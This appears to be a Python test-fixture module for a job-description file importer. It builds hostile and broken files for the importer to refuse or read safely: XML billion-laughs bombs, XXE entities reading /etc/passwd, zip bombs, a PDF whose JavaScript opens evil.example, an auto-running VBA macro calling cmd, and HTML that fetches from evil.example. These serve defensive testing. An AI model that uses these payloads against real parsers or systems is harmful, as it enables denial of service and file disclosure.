"""Files made to harm, or broken as files get broken; each with what must be said of it."""

from collections.abc import Callable, Iterator
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import docx as word
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from builder.exports import FORMATS, Look
from tests.exports.samples import FINISHED

# What no answer may hold: it stands in a file of the machine that reads.
SECRET = "root:"

_LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'haha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
)
_FILE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_BODY = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>{}'
    "</w:body></w:document>"
)
_PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
WELDER = "".join(
    map(_PARAGRAPH.format, ("Job title: Welder", "Pay: $28.50 an hour", "Location: Tulsa, OK"))
)


def packed(**parts: str | bytes) -> bytes:
    """Return a ZIP file; two underscores in the name of a part stand for a slash."""
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name.replace("__", "/").replace("_xml", ".xml"), content)
    return file.getvalue()


def in_word(body: str, **parts: str | bytes) -> bytes:
    """Return a Word file with this XML in its body."""
    return packed(word__document_xml=_BODY.format(body), **parts)


def whole(name: str) -> bytes:
    """Return a file of a format as our own export writes it."""
    return FORMATS[name].render(FINISHED, Look())


def edited_word() -> bytes:
    """Return a Word file of ours that somebody wrote into."""
    file = BytesIO()
    document = word.Document(BytesIO(whole("docx")))
    document.add_paragraph("And one thing more.")
    document.save(file)
    return file.getvalue()


def locked_pdf() -> bytes:
    """Return a PDF that asks for a password."""
    writer = PdfWriter(BytesIO(whole("pdf")))
    writer.encrypt("secret", algorithm="RC4-128")
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


def scanned_pdf() -> bytes:
    """Return a PDF without any text."""
    writer = PdfWriter()
    writer.add_blank_page(600, 800)
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


def running_pdf() -> bytes:
    """Return a PDF that would run a script and open a program."""
    writer = PdfWriter(BytesIO(whole("pdf")))
    action = DictionaryObject()
    action[NameObject("/S")] = NameObject("/JavaScript")
    action[NameObject("/JS")] = TextStringObject("app.launchURL('http://evil.example/');")
    writer.root_object[NameObject("/OpenAction")] = action
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


def _nested(levels: int) -> bytes:
    content = b"word " * 10_000
    for _ in range(levels):
        content = packed(inner=content)
    return content


def _tables(levels: int) -> str:
    start = "<w:tbl><w:tr><w:tc>" + _PARAGRAPH.format("deep")
    return start * levels + "</w:tc></w:tr></w:tbl>" * levels


# What is refused, by name: how the file is made, and a piece of what is said of it.
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "is empty"),
    "too large": (lambda: b"a" * 20_000_001, "larger than 20 megabytes"),
    "zip bomb": (lambda: in_word("", word__header1_xml=" " * 15_000_000), "unpacks to far more"),
    "nested zips": (lambda: _nested(5), "is a ZIP file"),
    "many parts": (lambda: packed(**{f"word__a{n}": b"" for n in range(2_100)}), "more parts"),
    "billion laughs": (
        lambda: packed(word__document_xml=f"{_LAUGHS}<a>&a9;</a>"),
        "definitions that no document needs",
    ),
    "billion laughs in UTF-16": (
        lambda: packed(word__document_xml=f"{_LAUGHS}<a b='&a3;'>&a9;</a>".encode("utf-16")),
        "definitions that no document needs|damaged",
    ),
    "entity of a file": (
        lambda: packed(word__document_xml=f"{_FILE}<a>&x;</a>"),
        "definitions that no document needs",
    ),
    "old or locked Word": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EncryptedPackage" * 100,
        "old version of Word, or locked by a password",
    ),
    "locked PDF": (locked_pdf, "locked by a password"),
    "scanned PDF": (scanned_pdf, "pictures of pages"),
    "half a PDF's head": (lambda: b"%PDF-1.7\n%\xe2\xe3", "damaged"),
    "half a Word file": (lambda: whole("docx")[:3000], "damaged"),
    "picture named PDF": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "is a picture"),
    "program": (lambda: b"MZ" + b"\0" * 100, "is a program"),
    "archive": (lambda: b"Rar!" + b"\0" * 100, "is an archive"),
    "zeros": (lambda: b"\0" * 1000, "none that can be read"),
    "noise": (lambda: bytes(range(256)) * 20, "none that can be read"),
    "zeros in a text": (lambda: b"Job title: Welder\0\0\0 and more", "none that can be read"),
    "other JSON": (lambda: b'{"name": "left-pad"}', "not a job description in JSON"),
    "white space": (lambda: b" \n\t\n " * 100, "holds no text"),
    "RTF without text": (lambda: b"{\\rtf1 " + b"{" * 200_000, "holds no text"),
    "page of scripts": (lambda: b"<html><script>Welder()</script></html>", "holds no text"),
}

# What is read although it is odd, by name: how the file is made, and the title that it has.
READ: dict[str, tuple[Callable[[], bytes], str]] = {
    "macros": (
        lambda: in_word(WELDER, word__vbaProject_bin=b"Sub AutoOpen()\nShell \"cmd\"\nEnd Sub"),
        "Welder",
    ),
    "tables in tables": (lambda: in_word(WELDER + _tables(60)), "Welder"),
    "template far away": (
        lambda: in_word(
            WELDER
            + '<w:p><w:hyperlink r:id="r1"><w:r><w:t>Read</w:t></w:r></w:hyperlink></w:p>',
            **{
                "word___rels__document_xml.rels": '<Relationships xmlns="http://schemas.openxml'
                'formats.org/package/2006/relationships"><Relationship Id="r1" Type="x/hyperlink" '
                'Target="file:///etc/passwd"/><Relationship Id="r2" Type="x/attachedTemplate" '
                'Target="http://evil.example/a.dotm"/></Relationships>'
            },
        ),
        "Welder",
    ),
    "page that fetches": (
        lambda: (
            b"<html><head><link rel=stylesheet href='http://evil.example/a.css'><base href='file:///'>"
            b"</head><body onload=\"fetch('http://evil.example')\"><h1>Welder</h1>"
            b"<img src='http://evil.example/a.png'><iframe src='file:///etc/passwd'></iframe>"
            b"<a href='javascript:alert(1)'>Apply</a> <object data='file:///etc/passwd'></object>"
            b"<p>Weld things.</p></body></html>"
        ),
        "Welder",
    ),
    "entity in a page": (
        lambda: (
            b'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><h1>Welder</h1>'
            b"<p>Weld &x; things.</p></body></html>"
        ),
        "Welder",
    ),
    "UTF-16": (lambda: "Job title: Schweißer Worker\n".encode("utf-16"), "Schweißer Worker"),
    "UTF-16 without a mark": (
        lambda: "Job title: Schweißer Worker\n".encode("utf-16-le"), "Schweißer Worker",
    ),
    "UTF-16 the other way round": (
        lambda: "Job title: Schweißer Worker\n".encode("utf-16-be"), "Schweißer Worker",
    ),
    "UTF-32": (lambda: "Job title: Schweißer Worker\n".encode("utf-32"), "Schweißer Worker"),
    "Windows' own": (lambda: "Job title: Café Manager\n".encode("cp1252"), "Café Manager"),
    "Latin page": (
        lambda: "<meta charset=iso-8859-1><h1>Café Manager</h1><p>Lead the café.</p>".encode(
            "latin-1"
        ),
        "Café Manager",
    ),
    "PDF named text, with a script": (running_pdf, FINISHED.title),
    "RTF with objects": (
        lambda: b"{\\rtf1 Job title: Welder\\par {\\object\\objdata " + b"4d5a" * 5000 + b"}}",
        "Welder",
    ),
    "RTF that nests": (lambda: b"{\\rtf1 Job title: Welder\\par " + b"{" * 100_000, "Welder"),
}  # fmt: skip


def real_files() -> Iterator[tuple[str, bytes]]:
    """Yield a file of each format, for mutations of it; of ours, without the document in them."""
    yield "pdf", whole("pdf")
    yield "docx", edited_word()
    yield "html", whole("html").replace(b"data-document", b"data-else")
    yield "markdown", whole("markdown").split(b"\n---\n", 1)[1]
    yield "json", whole("json")
    yield "text", b"Job title: Welder\nPay: $28.50 - $31 an hour\n\nDuties:\n- Weld\n- Grind\n" * 9
    yield (
        "rtf",
        b"{\\rtf1\\ansi Job title: Welder\\par Pay: \\'80 28.50\\par\\bullet Weld\\par}" * 9,
    )
